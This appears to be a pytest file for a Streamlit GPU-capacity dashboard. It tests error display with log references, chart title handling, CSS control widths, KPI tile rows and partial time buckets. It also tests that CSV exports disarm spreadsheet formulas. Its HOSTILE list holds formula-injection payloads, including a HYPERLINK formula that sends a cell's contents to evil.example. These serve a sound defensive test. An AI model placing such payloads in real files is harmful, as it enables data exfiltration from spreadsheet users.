"""Page furniture (dashboards/ui.py): what a viewer is shown when a model fails (one line and a reference, the
traceback only in the server's log), and a table's CSV download (neutralised against formula injection)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
import re

import duckdb
import polars as pl
import pytest

import dashboard_fixtures as dfx
from dashboard_fixtures import lab_copy, lab_db  # noqa: F401 (fixtures)
from dashboards import exports, ui
from ingest import warehouse

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1,2)", "-2+3", "\t=1+1",
           "\u200b=1+1", "＝1+1", "nlp"]


def test_table_csv_neutralises_every_cell_a_spreadsheet_would_evaluate():
    df = pl.DataFrame({"team": HOSTILE, "gpu_hours": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
                       "jobs": list(range(len(HOSTILE)))})
    got = ui.table_csv(df, {"team": "Team", "gpu_hours": "GPU-hours", "jobs": "Jobs"})
    header, *rows = list(csv.reader(io.StringIO(got.decode("utf-8"))))
    assert header == ["Team", "GPU-hours", "Jobs"]
    teams = [r[0] for r in rows]
    assert teams[:-1] == ["'" + t for t in HOSTILE[:-1]]          # each kept, after a quote that disarms it
    assert teams[-1] == "nlp"
    assert [r[1] for r in rows][:2] == ["-1.5", "2.0"]             # numbers stay numbers, signs and all
    # the one neutralising rule: the finance exports' writer, applied to the table as labelled
    assert got == exports.csv_bytes(ui.present(df, {"team": "Team", "gpu_hours": "GPU-hours", "jobs": "Jobs"}))


class _Records(logging.Handler):
    def __init__(self):
        super().__init__()
        self.records: list[logging.LogRecord] = []

    def emit(self, record):
        self.records.append(record)


def _page_text(at) -> str:
    parts = [e.value for kind in (at.markdown, at.caption, at.info, at.warning, at.error, at.code) for e in kind]
    return "\n".join(parts)


def test_a_failing_page_shows_one_line_and_a_reference_the_log_has_the_traceback(lab_copy, monkeypatch):
    # A snapshot missing a mart the Overview reads: its tiles and its trends cannot be computed.
    manifest = warehouse.read_manifest(lab_copy)
    del manifest["tables"]["tl_hourly"]
    manifest["version"] += "-without-tl_hourly"
    warehouse.serving_path(lab_copy).write_text(json.dumps(manifest))
    records = _Records()
    ui.log.addHandler(records)
    try:
        at = dfx.app(lab_copy, monkeypatch)
        at.run()
    finally:
        ui.log.removeHandler(records)
    assert not at.exception, [e.value for e in at.exception]
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and errors[0].startswith(f"**Overview {ui.FAILED_TEXT}** from this snapshot.")
    page_ref = re.search(r"Reference `([0-9a-f]{8})`", errors[0]).group(1)
    tile_refs = [re.fullmatch(rf":red\[{ui.FAILED_TEXT}\] \(reference `([0-9a-f]{{8}})`\)", c.value).group(1)
                 for c in at.caption if ui.FAILED_TEXT in c.value]
    assert tile_refs, "no tile says it could not be computed"
    # nothing on the page names a source file, a path, the exception or the SQL object
    text = _page_text(at)
    for leak in ("Traceback", ".py", "/work", "/tmp", "CatalogException", "Catalog Error", "tl_hourly"):
        assert leak not in text, leak
    assert not at.expander, [x.label for x in at.expander]
    # the administrator finds each reference once in the log, with its traceback
    logged = {re.match(r"reference ([0-9a-f]{8}): ", r.getMessage()).group(1): r for r in records.records}
    assert set(logged) == {page_ref, *tile_refs} and len(records.records) == 1 + len(tile_refs)
    assert all(r.levelno == logging.ERROR and r.exc_info for r in logged.values())
    detail = logging.Formatter().format(logged[page_ref])
    assert "Traceback" in detail and "tl_hourly" in detail and "views/overview.py" in detail


def _chart_page():
    import plotly.graph_objects as go
    import streamlit as st

    from dashboards import ui as page_ui
    fig = go.Figure(go.Bar(x=[1, 2], y=[3, 4]))
    fig.update_layout(title_text="Free GPUs a request of each size could not use <b>&</b>", margin=dict(t=84))
    page_ui.chart(st, fig, key="c")
    st.session_state["kept"] = (fig.layout.title.text, fig.layout.margin.t)


def test_a_chart_title_is_drawn_above_the_figure_as_text_that_wraps_and_the_figure_keeps_it():
    """A plotly title is one SVG line cut at a half-width chart's edge on a laptop: ui.chart draws it as HTML
    (escaped) above the figure, sends the figure without it (30 px less top margin), and leaves the figure as it
    was (a cached figure is drawn again on the next rerun; PDF and image exports draw its title)."""
    from streamlit.testing.v1 import AppTest
    at = AppTest.from_function(_chart_page)
    at.run()
    assert not at.exception
    html = [e for e in at.get("html")]
    assert [h.proto.body for h in html] == [
        '<div class="gl-chart-title">Free GPUs a request of each size could not use &lt;b&gt;&amp;&lt;/b&gt;</div>']
    sent = json.loads(at.get("plotly_chart")[0].proto.spec)
    assert "text" not in sent["layout"].get("title", {}) and sent["layout"]["margin"]["t"] == 54
    assert at.session_state["kept"] == ("Free GPUs a request of each size could not use <b>&</b>", 84)


def _control_row_page():
    import streamlit as st
    from dashboards import ui as page_ui
    with page_ui.control_row("row", {"pick": 12.5, "add rtx.6000": 9}):
        st.selectbox("Pick", ["a", "b"], key="pick")
        st.number_input("Add", 0, 9, 0, key="add rtx.6000")


def test_a_control_row_gives_each_widget_its_minimum_width_by_the_class_streamlit_gives_its_key():
    """Streamlit names a keyed widget's element ``st-key-`` + its key with every character but letters, digits,
    ``_`` and ``-`` made ``-`` (a pool called "rtx.6000" in a what-if key): the row's rules must use that name,
    or the widget shrinks until its value is cut (the browser test checks the pages)."""
    from streamlit.testing.v1 import AppTest
    assert ui.css_class(" add rtx.6000 ") == "st-key-add-rtx-6000"
    assert ui.css_class("fc_measure-2") == "st-key-fc_measure-2"
    at = AppTest.from_function(_control_row_page)
    at.run()
    assert not at.exception
    assert [h.proto.body for h in at.get("html")] == [
        "<style>.st-key-pick { min-width: 12.5rem; }.st-key-add-rtx-6000 { min-width: 9rem; }</style>"]
    assert at.selectbox(key="pick").value == "a" and at.number_input(key="add rtx.6000").value == 0


def _tiles_page():
    import streamlit as st
    from dashboards import ui as page_ui
    for i, col in enumerate(page_ui.tile_columns(st.session_state.get("n", 6))):
        col.metric(f"pool {i}: capacity reached", "2026-07-11")


@pytest.mark.parametrize("n, rows", [(6, [4, 4]), (2, [2]), (4, [4]), (9, [4, 4, 4]), (1, [1])])
def test_kpi_tiles_come_in_rows_of_at_most_four_lined_up(n, rows):
    """One capacity tile per pool and cluster: six in one row broke their dates at 1024 px ("2026-07-" / "11")."""
    from streamlit.testing.v1 import AppTest
    at = AppTest.from_function(_tiles_page)
    at.session_state["n"] = n
    at.run()
    assert not at.exception
    assert [m.label for m in at.metric] == [f"pool {i}: capacity reached" for i in range(n)]
    assert len(at.columns) == sum(rows)


def test_a_last_bucket_cut_short_is_named_with_its_hours_and_a_whole_one_is_not():
    day = pl.DataFrame({"bucket": [dt.datetime(2026, 7, 5), dt.datetime(2026, 7, 6)], "hours": [24.0, 6.66]})
    assert ui.partial_bucket(day, "day") == (dt.datetime(2026, 7, 6), "partial day: 6.7 of 24 h")
    assert ui.partial_bucket(day.head(1), "day") is None
    # a month's whole length is its own: February 2026 has 672 hours, so 671.5 is short and 672 is not
    feb = pl.DataFrame({"bucket": [dt.datetime(2026, 2, 1)], "hours": [671.5]})
    assert ui.partial_bucket(feb, "month") == (dt.datetime(2026, 2, 1), "partial month: 671.5 of 672 h")
    assert ui.partial_bucket(feb.with_columns(hours=pl.lit(672.0)), "month") is None
    assert ui.partial_bucket(pl.DataFrame({"bucket": [dt.datetime(2026, 7, 6)]}), "day") is None   # no hours known
